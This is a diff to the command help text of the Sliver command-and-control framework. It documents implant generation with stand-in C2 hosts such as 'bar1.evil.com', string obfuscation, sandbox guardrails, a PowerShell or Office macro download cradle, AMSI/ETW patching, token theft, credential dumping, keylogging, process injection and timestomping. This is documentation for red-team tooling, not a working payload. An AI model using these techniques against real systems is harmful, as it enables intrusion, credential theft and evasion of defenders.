@@ -27,18 +27,25 @@ import (
 	"text/template"
 
 	consts "github.com/bishopfox/sliver/client/constants"
+	"github.com/bishopfox/sliver/client/theme"
 )
 
 var (
 	cmdHelp = map[string]string{
 		consts.JobsStr:            jobsHelp,
 		consts.SessionsStr:        sessionsHelp,
+		consts.TagStr:             tagHelp,
 		consts.BackgroundStr:      backgroundHelp,
 		consts.InfoStr:            infoHelp,
 		consts.UseStr:             useHelp,
 		consts.GenerateStr:        generateHelp,
 		consts.NewProfileStr:      newProfileHelp,
 		consts.ProfileGenerateStr: generateProfileHelp,
+		consts.RegenerateStr:      regenerateHelp,
+		consts.PatchStr:           patchHelp,
+		consts.BuildersStr:        buildersHelp,
+		consts.OperationalStr:     operationalHelp,
+		consts.FindBuildStr:       findBuildHelp,
 		consts.StagerStr:          generateStagerHelp,
 		consts.StageListenerStr:   stageListenerHelp,
 
@@ -53,39 +60,119 @@ var (
 		consts.DownloadStr:         downloadHelp,
 		consts.UploadStr:           uploadHelp,
 		consts.MkdirStr:            mkdirHelp,
+		consts.ChmodStr:            chmodHelp,
+		consts.ChownStr:            chownHelp,
+		consts.TimestompStr:        timestompHelp,
 		consts.RmStr:               rmHelp,
 		consts.ProcdumpStr:         procdumpHelp,
 		consts.ElevateStr:          elevateHelp,
 		consts.RunAsStr:            runAsHelp,
 		consts.ImpersonateStr:      impersonateHelp,
 		consts.RevToSelfStr:        revToSelfHelp,
+		consts.TokensStr:           tokensHelp,
+		consts.StealTokenStr:       stealTokenHelp,
+		consts.MakeTokenStr:        makeTokenHelp,
+		consts.RegistryStr:         registryHelp,
+		consts.WMIStr:              wmiHelp,
+		consts.ServicesStr:         servicesHelp,
+		consts.PersistStr:          persistHelp,
+		consts.BeaconsStr:          beaconsHelp,
+		consts.TasksStr:            tasksHelp,
+		consts.ReconfigStr:         reconfigHelp,
+		consts.GetEnvStr:           getEnvHelp,
+		consts.SetEnvStr:           setEnvHelp,
+		consts.UnsetEnvStr:         unsetEnvHelp,
+		consts.WhoamiStr:           whoamiHelp,
+		consts.HostInfoStr:         hostInfoHelp,
+		consts.ArpStr:              arpHelp,
+		consts.CurlStr:             curlHelp,
+		consts.PortScanStr:         portScanHelp,
+		consts.GetPrivsStr:         getPrivsHelp,
 		consts.ExecuteAssemblyStr:  executeAssemblyHelp,
+		consts.PowerShellStr:       powerShellHelp,
 		consts.ExecuteShellcodeStr: executeShellcodeHelp,
+		consts.ExecuteStr:          executeHelp,
 		consts.MigrateStr:          migrateHelp,
+		consts.GetSystemStr:        getSystemHelp,
 		consts.SideloadStr:         sideloadHelp,
+		consts.ExecutePEStr:        executePEHelp,
+		consts.ExecuteBOFStr:       executeBOFHelp,
 		consts.TerminateStr:        terminateHelp,
 		consts.LoadExtensionStr:    loadExtensionHelp,
+		consts.ArmoryStr:           armoryHelp,
+		consts.AliasStr:            aliasHelp,
+		consts.ThemeStr:            themeHelp,
+		consts.ScriptStr:           scriptHelp,
+		consts.ExportStr:           exportHelp,
+		consts.TimeoutStr:          timeoutHelp,
+		consts.TransfersStr:        transfersHelp,
+		consts.BroadcastStr:        broadcastHelp,
+		consts.ServersStr:          serversHelp,
+		consts.NotifyStr:           notifyHelp,
 		consts.PsExecStr:           psExecHelp,
 		consts.BackdoorStr:         backdoorHelp,
 
-		consts.WebsitesStr:   websitesHelp,
-		consts.ScreenshotStr: screenshotHelp,
+		consts.WebsitesStr:        websitesHelp,
+		consts.LootStr:            lootHelp,
+		consts.CredsStr:           credsHelp,
+		consts.WifiStr:            wifiHelp,
+		consts.BrowserStr:         browserHelp,
+		consts.HashdumpStr:        hashdumpHelp,
+		consts.LsassStr:           lsassHelp,
+		consts.KerberosStr:        kerberosHelp,
+		consts.LDAPStr:            ldapHelp,
+		consts.SearchStr:          searchHelp,
+		consts.HashStr:            hashHelp,
+		consts.DrivesStr:          drivesHelp,
+		consts.SSHStr:             sshHelp,
+		consts.PivotGraphStr:      pivotGraphHelp,
+		consts.ScreenshotStr:      screenshotHelp,
+		consts.ScreenshotWatchStr: screenshotWatchHelp,
+		consts.KeyloggerStr:       keyloggerHelp,
+		consts.ClipboardStr:       clipboardHelp,
+		consts.PortfwdStr:         portfwdHelp,
+		consts.RportfwdStr:        rportfwdHelp,
+		consts.Socks5Str:          socks5Help,
+
+		consts.NetworkProfilesStr:   networkProfilesHelp,
+		consts.NewNetworkProfileStr: newNetworkProfileHelp,
 	}
 
 	jobsHelp = `[[.Bold]]Command:[[.Normal]] jobs <options>
 	[[.Bold]]About:[[.Normal]] Manage jobs/listeners.`
 
 	sessionsHelp = `[[.Bold]]Command:[[.Normal]] sessions <options>
-[[.Bold]]About:[[.Normal]] List Sliver sessions, and optionally interact or kill a session.`
+[[.Bold]]About:[[.Normal]] List Sliver sessions, and optionally interact or kill a session.
+
+[[.Bold]][[.Underline]]++ Filters ++[[.Normal]]
+Listings can be narrowed down with --host, --user, --os, and --transport (case insensitive substrings), --tag (see 'help tag'),
+--max-age to only list sessions that checked in within a duration, and --search to match any field. The same filters work
+with the 'beacons' command.
+
+[[.Bold]][[.Underline]]++ Health ++[[.Normal]]
+The server rates every session green, yellow, or red from the time since its last check-in (HTTP and DNS sessions poll at
+a known interval, mTLS and pivots don't), the share of its last 20 requests that timed out, and their average round trip
+time. See 'info' for the details behind a rating.
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+
+	sessions --os windows --tag dc
+	sessions --max-age 5m --search 10.0.0.`
+
+	tagHelp = `[[.Bold]]Command:[[.Normal]] tag [--remove] <tags...>
+[[.Bold]]About:[[.Normal]] Tag the active session or beacon, tags are shared with all operators and can be used to filter the
+'sessions' and 'beacons' listings. Tags are case insensitive, a session keeps its tags when it migrates.`
 
 	backgroundHelp = `[[.Bold]]Command:[[.Normal]] background
-[[.Bold]]About:[[.Normal]] Background the active Sliver.`
+[[.Bold]]About:[[.Normal]] Background the active Sliver, it keeps running and can be resumed with 'use -'.`
 
 	infoHelp = `[[.Bold]]Command:[[.Normal]] info <sliver name/session>
 [[.Bold]]About:[[.Normal]] Get information about a Sliver by name, or for the active Sliver.`
 
-	useHelp = `[[.Bold]]Command:[[.Normal]] use [sliver name/session]
-[[.Bold]]About:[[.Normal]] Switch the active Sliver, a valid name must be provided (see sessions).`
+	useHelp = `[[.Bold]]Command:[[.Normal]] use [sliver name/session/beacon id]
+[[.Bold]]About:[[.Normal]] Switch the active Sliver, a valid name must be provided (see sessions).
+A beacon can be selected by its ID, a unique prefix of its ID, or its name (see beacons).
+Use '-' to switch back to the session or beacon that was active before the last 'use' or 'background'.`
 
 	generateHelp = `[[.Bold]]Command:[[.Normal]] generate <options>
 [[.Bold]]About:[[.Normal]] Generate a new sliver binary and saves the output to the cwd or a path specified with --save.
@@ -100,6 +187,11 @@ The follow command is used to generate a sliver Windows executable (PE) file, th
 You can also stack the C2 configuration with multiple protocols:
 	generate --os linux --mtls example.com,domain.com --http bar1.evil.com,bar2.attacker.com --dns baz.bishopfox.com
 
+The implant tries its C2 endpoints in priority order and moves on to the next one when a connection fails. Use --c2 to
+mix protocols in the exact order you want, URLs passed with --c2 come first followed by the --mtls, --http, --dns,
+--named-pipe and --tcp-pivot endpoints (in that order):
+	generate --c2 dns://baz.bishopfox.com,mtls://example.com:8888,https://bar1.evil.com
+
 
 [[.Bold]][[.Underline]]++ Formats ++[[.Normal]]
 Supported output formats are Windows PE, Windows DLL, Windows Shellcode (SRDI), Mach-O, and ELF. The output format is controlled
@@ -112,12 +204,73 @@ To output a 64bit Windows PE file (defaults to WinPE/64bit), either of the follo
 A Windows DLL can be generated with the following command:
 	generate --format shared --mtls foo.example.com
 
+Shared libraries export a function that starts the implant, named with --export (default: RunSliver) so it matches what your
+loader or the host process expects. Linux and MacOS libraries also start when loaded, Windows DLLs only do with --run-at-load
+(a thread is created from DllMain). Shellcode calls the same export.
+	generate --format shared --export StartW --run-at-load --mtls foo.example.com
+
+Windows shellcode (x64 or x86) is the implant DLL converted with sRDI: a small position independent loader maps the DLL from
+memory and calls the export. The raw .bin output can be passed to any injector or stager:
+	generate --format shellcode --mtls foo.example.com
+
+--sgn adds a shikata ga nai style encoding pass: the shellcode is XOR encoded with additive feedback behind a decoder stub
+generated from a random seed, so each build has a distinct byte pattern. The decoder writes over the shellcode, so it must
+run from writable memory. The seed is recorded (see find-build) and reused when the build is regenerated:
+	generate --format shellcode --sgn --mtls foo.example.com
+
+A Windows service executable implements the service control manager entry points, so it can be installed and started
+directly with 'sc create' or lateral movement tooling (it also runs normally when executed outside of the SCM):
+	generate --format service --mtls foo.example.com
+	sc create updsvc binPath= C:\Windows\Temp\svc.exe start= auto
+
 To output a MacOS Mach-O executable file, the following command would be used
 	generate --os mac --mtls foo.example.com 
 
 To output a Linux ELF executable file, the following command would be used:
 	generate --os linux --mtls foo.example.com 
 
+[[.Bold]][[.Underline]]++ Architectures ++[[.Normal]]
+Use --arch to pick the CPU architecture: amd64 (64bit, x64), arm64 (aarch64) or 386 (32bit, x86). Windows and Linux support all
+three, MacOS supports amd64 and arm64 (Apple silicon). Executables cross-compile from any server, shared libraries and shellcode
+need a C cross-compiler for the target (e.g. mingw for Windows), set with SLIVER_CC_<OS>_<ARCH> such as SLIVER_CC_WINDOWS_ARM64.
+	generate --os mac --arch arm64 --mtls foo.example.com
+
+[[.Bold]][[.Underline]]++ Optional Features ++[[.Normal]]
+Screenshots and the keylogger need cgo or platform bindings on some targets (i.e. the bundled X11 client on Linux). Use
+--no-screenshot and/or --no-keylogger to leave them out for a smaller, pure-Go build, the commands then return an error.
+	generate --os linux --mtls foo.example.com --no-screenshot --no-keylogger
+
+[[.Bold]][[.Underline]]++ Traffic Shaping ++[[.Normal]]
+--network-profile bakes a network profile's envelope padding and cover DNS queries into the build, the profile is
+randomly derived the first time its name is used so each engagement gets its own wire pattern (see new-network-profile).
+	generate --mtls foo.example.com --network-profile acme
+
+[[.Bold]][[.Underline]]++ WebAssembly (experimental) ++[[.Normal]]
+--os js (or wasm, browser) builds a .wasm session implant for browsers and edge runtimes, it only supports http(s) C2,
+the executable format and the ping and kill commands. Load it with the Go toolchain's wasm_exec.js. The http(s) listener
+allows cross-origin requests so the page doesn't have to be served from the C2 server.
+	generate --os js --http foo.example.com
+
+
+[[.Bold]][[.Underline]]++ Beacons ++[[.Normal]]
+By default implants keep a connection open to the server (a session). With --beacon the implant instead checks in
+every --beacon-interval seconds, plus or minus a random --beacon-jitter, runs any queued tasks, and disconnects:
+	generate --mtls foo.example.com --beacon --beacon-interval 300 --beacon-jitter 60
+
+The timing can be changed at runtime with the 'reconfig' command, see 'help beacons'.
+
+With --sleep-obfuscation the beacon encrypts its key material and C2 URLs in place with a one-time key while it
+sleeps, and returns freed memory to the OS, so a memory scan between check-ins doesn't find them. Thread stacks
+are not masked. It can be turned on or off at runtime with 'reconfig --sleep-obfuscation on|off'.
+
+[[.Bold]][[.Underline]]++ Obfuscation ++[[.Normal]]
+Release builds have all their strings, including the C2 configuration, encrypted with per-build keys and each string
+is only decrypted the first time it's used, so C2 domains don't show up with 'strings'. The protobuf descriptors are
+encrypted the same way and field names are stripped from the protobuf struct tags, symbols and package paths are
+renamed (unless --skip-symbols is used), and the Go version and build info are removed.
+Everything is derived from a random per-build seed that is saved with the build and shown by the 'implants' command,
+passing it back with --seed reproduces the same obfuscation:
+	generate --mtls foo.example.com --seed 5a3c0b7e9d2f41a6
 
 [[.Bold]][[.Underline]]++ DNS Canaries ++[[.Normal]]
 DNS canaries are unique per-binary domains that are deliberately NOT obfuscated during the compilation process. 
@@ -131,9 +284,23 @@ Unique canary subdomains are automatically generated and inserted using the --ca
 canaries and their status using the "canaries" command:
 	generate --mtls foo.example.com --canary 1.foobar.com
 
+With --canary-decoys the binary also embeds that many extra canaries that look like fallback endpoints (e.g.
+http://cdn-4kz9q.foobar.com/api/v1/status). The implant never contacts them, so a lookup means it was analyzed:
+	generate --mtls foo.example.com --canary foobar.com --canary-decoys 3
+
 [[.Bold]][[.Underline]]++ Execution Limits ++[[.Normal]]
 Execution limits can be used to restrict the execution of a Sliver implant to machines with specific configurations.
 
+Guardrails keep the implant from running anywhere but the intended targets, e.g. in a sandbox it was submitted to. The
+hostname and username regexes must match the whole (case insensitive) name, --limit-domain is the NetBIOS or DNS name
+of the AD domain the host is joined to (windows only), and --limit-not-before with --limit-datetime set the window the
+implant runs in. If a guardrail can't be checked the implant exits:
+	generate --mtls foo.example.com --limit-hostname-regex 'web-\d+' --limit-domain CORP --limit-not-before 2021-06-01
+
+A kill date is different, once it has passed the implant removes any persistence that launches it and its own executable,
+then exits. Dates are YYYY-MM-DD (midnight UTC) or RFC3339:
+	generate --mtls foo.example.com --kill-date 2021-06-30
+
 [[.Bold]][[.Underline]]++ Profiles ++[[.Normal]]
 Due to the large number of options and C2s this can be a lot of typing. If you'd like to have a reusable a Sliver config
 see 'help new-profile'. All "generate" flags can be saved into a profile, you can view existing profiles with the "profiles"
@@ -152,8 +319,15 @@ And like this for multiple bytes:
 generate stager -b '00 0a cc'
 
 [[.Bold]][[.Underline]]++ Output Formats ++[[.Normal]]
-You can use the --output-format flag to print out the shellcode to stdout, in one of the following transform formats:
-[[.Bold]]bash c csharp dw dword hex java js_be js_le num perl pl powershell ps1 py python raw rb ruby sh vbapplication vbscript[[.Normal]]
+You can use the --format flag to print out the shellcode to stdout, in one of the following msfvenom transform formats:
+[[.Bold]]bash c csharp dw dword hex java js_be js_le num perl pl ps1 py python raw rb ruby sh vbapplication vbscript[[.Normal]]
+
+With the http or https staging protocol the [[.Bold]]powershell[[.Normal]] and [[.Bold]]vba[[.Normal]] formats generate a download cradle instead (msfvenom
+isn't needed): a PowerShell script or an Office macro (AutoOpen/Document_Open/Workbook_Open) that fetches the implant
+shellcode from the staging listener and runs it in memory. The shellcode must match the architecture of the process
+that runs the stager, Office is usually 32 bit:
+	generate stager --lhost 1.2.3.4 --lport 8443 --protocol https --format powershell --save /tmp/
+	stage-listener --url https://1.2.3.4:8443 --profile windows-shellcode
 `
 	stageListenerHelp = `[[.Bold]]Command:[[.Normal]] stage-listener <options>
 [[.Bold]]About:[[.Normal]] Starts a stager listener bound to a Sliver profile.
@@ -179,9 +353,70 @@ settings, but will still have per-binary certificates/obfuscation/etc. This comm
 	generate-profile mtls-profile
 `
 
+	networkProfilesHelp = `[[.Bold]]Command:[[.Normal]] network-profiles
+[[.Bold]]About:[[.Normal]] List network profiles, the traffic shaping parameters baked into builds (see new-network-profile).`
+
+	newNetworkProfileHelp = `[[.Bold]]Command:[[.Normal]] new-network-profile [--name] <options>
+[[.Bold]]About:[[.Normal]] Create a network profile, any parameter that isn't set is picked at random.
+
+[[.Bold]][[.Underline]]++ Network Profiles ++[[.Normal]]
+Builds with the same --network-profile share its traffic shaping, and each new profile is randomly derived so two
+engagements don't produce the same wire patterns. A build naming a profile that doesn't exist derives it on first use.
+Every envelope the implant sends gets --min-padding to --max-padding random bytes, and it makes cover DNS queries for
+the --dummy-domains every --dummy-interval seconds (+/- 50%, 0 disables them), picking record types by --dns-mix weight:
+	new-network-profile --name acme --dns-mix A:6,AAAA:3,TXT:1 --dummy-domains www.bing.com,ocsp.digicert.com
+	generate --mtls foo.example.com --network-profile acme
+`
+
 	generateProfileHelp = `[[.Bold]]Command:[[.Normal]] generate-profile [name] <options>
 [[.Bold]]About:[[.Normal]] Generate a Sliver from a saved profile (see new-profile).`
 
+	regenerateHelp = `[[.Bold]]Command:[[.Normal]] regenerate [implant name] <options>
+[[.Bold]]About:[[.Normal]] Get a previously generated implant binary (see implants).
+
+If the saved binary is gone, or --rebuild is used, the implant is built again from its saved config. The rebuilt binary
+keeps the original name, certificate, obfuscation seed and canaries so it works with the same sessions. Builds are
+reproducible, so with the same toolchain the rebuilt binary has the same SHA256 (the server warns if the toolchain changed):
+	regenerate --rebuild --save /tmp/ ELATED_TOOTH`
+
+	patchHelp = `[[.Bold]]Command:[[.Normal]] patch [implant name] <options>
+[[.Bold]]About:[[.Normal]] Create variants of a patchable implant without compiling them (see implants).
+
+Builds generated with --patchable keep their name, certificate, C2 and timing in a config region instead of the code.
+Each variant is a copy of the build with that region patched: a new name and certificate, and optionally its own C2
+and timing. The transports are compiled in, so a variant can only use C2 schemes the build was generated with:
+	generate --patchable --mtls a.example.com --http b.example.com
+	patch --count 10 --save /tmp/ ELATED_TOOTH
+	patch --c2 https://c.example.com --reconnect 120 ELATED_TOOTH
+
+Variants share the build's obfuscation, limits and canaries, and are recorded like any other build.`
+
+	operationalHelp = `[[.Bold]]Command:[[.Normal]] operational [implant name] <options>
+[[.Bold]]About:[[.Normal]] Mark an implant build as operational, i.e. cleared for use against targets (see implants).
+
+Debug builds log locally, keep their symbols and build paths, and print stack traces when they panic, release builds
+have all of that stripped. Debug builds are refused unless --allow-debug is used, the same applies to 'generate --operational':
+	operational ELATED_TOOTH
+	operational --off ELATED_TOOTH`
+
+	findBuildHelp = `[[.Bold]]Command:[[.Normal]] find-build [sha256 or file]
+[[.Bold]]About:[[.Normal]] Find the build a recovered sample came from, and the operator who generated it.
+
+The SHA256 of every artifact the server builds is recorded, a local file is hashed before the lookup:
+	find-build 5f2b6c1e0d9a4b7e8c3f2a1d6e5b4c3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d7c
+	find-build /tmp/ELATED_TOOTH.exe`
+
+	buildersHelp = `[[.Bold]]Command:[[.Normal]] builders
+[[.Bold]]About:[[.Normal]] List the external builders connected to the server.
+
+External builders are machines that build implants for the server, e.g. a Windows box with a special toolchain or
+a few machines to build in parallel. Start one with an operator config on the build machine:
+	sliver-server builder --config ./alice_sliver.example.com.cfg --name win-builder
+
+Then build on it with 'generate --builder win-builder ...', or '--builder any' to use the least busy builder that
+supports the target. The server issues the implant's name and certificates, and checks that the artifact is signed
+with the key of the operator the builder connected as before saving it like any other build.`
+
 	msfHelp = `[[.Bold]]Command:[[.Normal]] msf [--lhost] <options>
 [[.Bold]]About:[[.Normal]] Execute a metasploit payload in the current process.`
 
@@ -189,14 +424,26 @@ settings, but will still have per-binary certificates/obfuscation/etc. This comm
 [[.Bold]]About:[[.Normal]] Execute a metasploit payload in a remote process.`
 
 	psHelp = `[[.Bold]]Command:[[.Normal]] ps <options>
-[[.Bold]]About:[[.Normal]] List processes on remote system.`
+[[.Bold]]About:[[.Normal]] List processes on remote system.
+
+--tree prints the processes nested under their parents, which makes odd parent/child relationships easy to spot.
+On Windows --full also gets the integrity level of each process and its loaded modules, processes with known
+security product modules loaded are highlighted. This opens every process so it is slower and noisier.`
 
 	pingHelp = `[[.Bold]]Command:[[.Normal]] ping <sliver name/session>
 [[.Bold]]About:[[.Normal]] Ping Sliver by name or the active sliver. This does NOT send an ICMP packet, it just sends an empty 
 c2 message round trip to ensure the remote Sliver is still responding to commands.`
 
-	killHelp = `[[.Bold]]Command:[[.Normal]] kill <sliver name/session>
-[[.Bold]]About:[[.Normal]] Kill a remote sliver process (does not delete file).`
+	killHelp = `[[.Bold]]Command:[[.Normal]] kill [--force]
+[[.Bold]]About:[[.Normal]] Kill the active sliver process (does not delete file).
+
+[[.Bold]]Self-destruct:[[.Normal]]
+With --force the implant first removes any persistence that launches it and its own executable
+(shared libraries leave their host process alone), then reports what it removed. The report is
+saved as "self-destruct" loot. A beacon self-destructs at its next check-in.
+
+Implants generated with --kill-date do the same on their own once the date has passed, without
+reporting back.`
 
 	lsHelp = `[[.Bold]]Command:[[.Normal]] ls <remote path>
 [[.Bold]]About:[[.Normal]] List remote files in current directory, or path if provided.`
@@ -210,6 +457,20 @@ c2 message round trip to ensure the remote Sliver is still responding to command
 	mkdirHelp = `[[.Bold]]Command:[[.Normal]] mkdir [remote path]
 [[.Bold]]About:[[.Normal]] Create a remote directory.`
 
+	chmodHelp = `[[.Bold]]Command:[[.Normal]] chmod [--recursive] <mode> <remote path>
+[[.Bold]]About:[[.Normal]] Change the permissions of a remote file, the mode is given in octal (e.g. 0644). On Windows only the owner write bit is used, to set or clear the read-only attribute.`
+
+	chownHelp = `[[.Bold]]Command:[[.Normal]] chown [--recursive] <user[:group]> <remote path>
+[[.Bold]]About:[[.Normal]] (Linux/MacOS only) Change the owner and/or group of a remote file, users and groups may be names or numeric IDs. Use ":group" to only change the group. Symlinks themselves are changed, not their targets.`
+
+	timestompHelp = `[[.Bold]]Command:[[.Normal]] timestomp [--reference <remote file>] [--access <time>] [--modify <time>] [--create <time>] <remote path>
+[[.Bold]]About:[[.Normal]] Change the timestamps of a remote file. Use --reference to copy the timestamps from another file on the host, any times given explicitly override the reference's. Times may be RFC3339, YYYY-MM-DD or "YYYY-MM-DD HH:MM:SS" (UTC).
+
+The creation time can only be set on Windows, Linux and MacOS only allow the access and modify times to be set.
+
+[[.Bold]]Example:[[.Normal]]
+	timestomp --reference /bin/ls /usr/local/bin/implant`
+
 	rmHelp = `[[.Bold]]Command:[[.Normal]] rm [remote path]
 [[.Bold]]About:[[.Normal]] Delete a remote file or directory.`
 
@@ -217,16 +478,43 @@ c2 message round trip to ensure the remote Sliver is still responding to command
 [[.Bold]]About:[[.Normal]] Cat a remote file to stdout.`
 
 	downloadHelp = `[[.Bold]]Command:[[.Normal]] download [remote src] <local dst>
-[[.Bold]]About:[[.Normal]] Download a file from the remote system.`
+[[.Bold]]About:[[.Normal]] Download a file from the remote system.
+Use --bandwidth to cap this transfer in bytes per second (a k or m suffix is accepted), on top of any session cap set with 'reconfig'.
+Remember to raise --timeout to match, a 10MB file at 16k takes over ten minutes.`
 
 	uploadHelp = `[[.Bold]]Command:[[.Normal]] upload [local src] <remote dst>
-[[.Bold]]About:[[.Normal]] Upload a file to the remote system.`
+[[.Bold]]About:[[.Normal]] Upload a file to the remote system.
+Use --bandwidth to cap this transfer in bytes per second (a k or m suffix is accepted). The server paces mTLS and HTTP uploads,
+over DNS the implant fetches the file so only the session cap set with 'reconfig' applies.`
+
+	procdumpHelp = `[[.Bold]]Command:[[.Normal]] procdump [--pid PID | --name NAME]
+[[.Bold]]About:[[.Normal]] Dumps the process memory given a process identifier (pid) or name, the compressed dump is saved to loot.
+
+Windows targets produce a minidump, Linux targets produce a tar archive of the readable regions in /proc/<pid>/mem (named by address range) along with the process' maps file.
 
-	procdumpHelp = `[[.Bold]]Command:[[.Normal]] procdump [pid]
-[[.Bold]]About:[[.Normal]] Dumps the process memory given a process identifier (pid)`
+[[.Bold]]Size limits:[[.Normal]]
+Dumps larger than --max-size MiB (default 256) are not sent. Minidumps over the limit fail, Linux dumps skip the regions that would go over the limit and are marked as truncated.
 
-	runAsHelp = `[[.Bold]]Command:[[.Normal]] runas [--username] [--process] [--args]
-[[.Bold]]About:[[.Normal]] (Windows Only) Run a new process in the context of the designated user`
+[[.Bold]]Encryption:[[.Normal]]
+Use --encrypt to have the implant encrypt the dump with a one-time key before it is sent, so it is never relayed through pivots in the clear. The server decrypts it before saving it to loot.`
+
+	runAsHelp = `[[.Bold]]Command:[[.Normal]] runas [--username] [--process] [--args] [flags]
+[[.Bold]]About:[[.Normal]] Run a new process in the context of the designated user and report its pid and identity.
+The output is returned once the process exits, use --background for long running or GUI processes.
+
+[[.Bold]]Windows[[.Normal]]
+With --password the process is created with the user's credentials like runas.exe (from a LogonUser token when the implant runs as SYSTEM), --netonly only uses them for network access.
+With --use-token the process gets the token of make-token, steal-token or impersonate.
+Otherwise the token of a process owned by --username is used (default NT AUTHORITY\SYSTEM).
+
+[[.Bold]]Linux/MacOS[[.Normal]]
+The command line runs in /bin/sh through sudo -u (the default when installed) or su, --password is only needed when we aren't root or sudo requires it.
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+runas -u CORP\svc_sql -P 'Passw0rd!' -p cmd.exe -a "/c whoami /all"
+runas -T -b -p C:\Windows\System32\notepad.exe
+runas -u www-data -p /usr/bin/id
+runas -u alice -P 'Passw0rd!' -m su -p /bin/ls -a "-la ~"`
 
 	impersonateHelp = `[[.Bold]]Command:[[.Normal]] impersonate USERNAME
 [[.Bold]]About:[[.Normal]] (Windows Only) Steal the token of a logged in user. Sliver commands that runs new processes (like [[.Bold]]shell[[.Normal]] or [[.Bold]]execute-command[[.Normal]]) will impersonate this user.`
@@ -234,6 +522,17 @@ c2 message round trip to ensure the remote Sliver is still responding to command
 	revToSelfHelp = `[[.Bold]]Command:[[.Normal]] rev2self
 [[.Bold]]About:[[.Normal]] (Windows Only) Call RevertToSelf, lose the stolen token.`
 
+	tokensHelp = `[[.Bold]]Command:[[.Normal]] tokens
+[[.Bold]]About:[[.Normal]] (Windows Only) List the user and integrity level of the token of every process the implant can open.`
+
+	stealTokenHelp = `[[.Bold]]Command:[[.Normal]] steal-token <pid>
+[[.Bold]]About:[[.Normal]] (Windows Only) Impersonate the token of the process <pid>. Sliver commands that run new processes will use this token, use [[.Bold]]rev2self[[.Normal]] to drop it.`
+
+	makeTokenHelp = `[[.Bold]]Command:[[.Normal]] make-token -u <username> -d <domain> -p <password>
+[[.Bold]]About:[[.Normal]] (Windows Only) Create a token from plaintext credentials and impersonate it.
+By default the token is only used for network access (like runas /netonly), the local identity is unchanged.
+Use --interactive to perform a full interactive logon instead, this fails for accounts that can't log on locally.`
+
 	elevateHelp = `[[.Bold]]Command:[[.Normal]] elevate
 [[.Bold]]About:[[.Normal]] (Windows Only) Spawn a new sliver session as an elevated process (UAC bypass)`
 
@@ -241,16 +540,214 @@ c2 message round trip to ensure the remote Sliver is still responding to command
 [[.Bold]]About:[[.Normal]] (Windows Only) Executes the .NET assembly in a child process.
 `
 
+	powerShellHelp = `[[.Bold]]Command:[[.Normal]] powershell [--amsi] [--etw] [--file <local script>] <script>
+[[.Bold]]About:[[.Normal]] (Windows Only) Run PowerShell in a runspace hosted inside the implant process, powershell.exe is never started.
+The runspace stays open for the life of the implant, so variables, functions and imported modules persist between commands. Output (including errors, warnings and verbose messages) is streamed back as the script produces it, use --no-stream to wait for the script to finish instead.
+
+[[.Bold]]AMSI and ETW:[[.Normal]] --amsi patches AmsiScanBuffer and --etw patches EtwEventWrite in the implant process, they stay patched for every later command (and anything else running in the implant).
+
+[[.Bold]]Examples:[[.Normal]]
+	powershell Get-Process -Name lsass
+	powershell --amsi --file ./PowerView.ps1 Get-DomainUser -Identity administrator
+	powershell '$env:COMPUTERNAME; [Environment]::OSVersion'`
+
 	executeShellcodeHelp = `[[.Bold]]Command:[[.Normal]] execute-shellcode [local path to raw shellcode]
 [[.Bold]]About:[[.Normal]] Executes the given shellcode in the Sliver process.
 
 [[.Bold]][[.Underline]]++ Shellcode ++[[.Normal]]
 Shellcode files should be binary encoded, you can generate Sliver shellcode files with the generate command:
 	generate --format shellcode
+
+[[.Bold]][[.Underline]]++ Injection Techniques ++[[.Normal]]
+When injecting into another process with --pid the technique can be selected with --technique, the technique
+that was used is always reported back.
+
+[[.Bold]]remote-thread[[.Normal]] - (Windows, default) CreateRemoteThread
+[[.Bold]]apc          [[.Normal]] - (Windows) QueueUserAPC on every thread of the process, runs once per thread in an alertable wait
+[[.Bold]]ptrace       [[.Normal]] - (Linux amd64, default) Attach with ptrace and clone a new thread into the shellcode
 `
 
+	executeHelp = `[[.Bold]]Command:[[.Normal]] execute [flags] <path> [args...]
+[[.Bold]]About:[[.Normal]] Execute a program on the remote system, the output is returned once the program exits.
+With --stream the output (stdout and stderr) is printed as it is produced and Ctrl-C kills the program.
+With --stdin the console's input is also sent to the program line by line and Ctrl-D closes its stdin, once the program has exited press enter to return to the console.
+
+[[.Bold]]Examples:[[.Normal]]
+	execute -S ping 10.0.0.1
+	execute -i /bin/sh`
+
 	migrateHelp = `[[.Bold]]Command:[[.Normal]] migrate <pid>
-[[.Bold]]About:[[.Normal]] (Windows Only) Migrates into the process designated by <pid>.`
+[[.Bold]]About:[[.Normal]] (Windows Only) Migrates into the process designated by <pid>.
+When the implant in the new process connects it takes over the current session ID and tags, and the old process
+is told to exit. Tunnels (shells, socks, port forwards) of the old process are closed.`
+
+	beaconsHelp = `[[.Bold]]Command:[[.Normal]] beacons [rm <beacon id>]
+[[.Bold]]About:[[.Normal]] List beacons, implants that check in periodically instead of keeping a connection open (see 'help generate').
+
+Select a beacon with 'use <beacon id>', commands are then queued as tasks and run at the next check-in. A command
+waits for the result until its --timeout, after that the task stays queued and its result can be fetched later with
+the 'tasks' command. Commands that need a live connection (shell, portfwd, socks, etc.) are not supported.
+
+[[.Bold]]rm[[.Normal]] forgets about a beacon and its tasks, it does not tell the implant to exit (use 'kill' on the beacon first).
+
+Listings accept the same filters as 'sessions', see 'help sessions'.`
+
+	tasksHelp = `[[.Bold]]Command:[[.Normal]] tasks [fetch <task id> | queue | cancel <task id> | move <task id> <position>]
+[[.Bold]]About:[[.Normal]] List the tasks queued for the active beacon, or fetch the result of a completed task.
+
+'queue' shows the queued, in flight, and recently completed tasks and when the beacon checks in next. Queued tasks are
+sent in order at the next check-in, until then they can be cancelled or moved (position 1 is sent first). With
+--interactive, 'queue' shows a menu to reorder and cancel queued tasks.
+
+[[.Bold]]Examples:[[.Normal]]
+	tasks queue --interactive
+	tasks move 8412769016734571 1
+	tasks cancel 8412769016734571`
+
+	reconfigHelp = `[[.Bold]]Command:[[.Normal]] reconfig [flags]
+[[.Bold]]About:[[.Normal]] Change the reconnect interval of the active session, or the check-in interval and jitter of the active beacon.
+Values are in seconds, a value of 0 is left unchanged. A beacon applies the new timing after its next check-in.
+Sleep obfuscation (see 'help generate') can be turned 'on' or 'off' with --sleep-obfuscation.
+--bandwidth caps everything the implant sends and receives, in bytes per second (a k or m suffix is accepted), until it is
+turned 'off'. Over DNS every query counts against the cap, so it also bounds the query rate against the resolver.
+
+[[.Bold]]Examples:[[.Normal]]
+	reconfig --beacon-interval 3600 --beacon-jitter 600
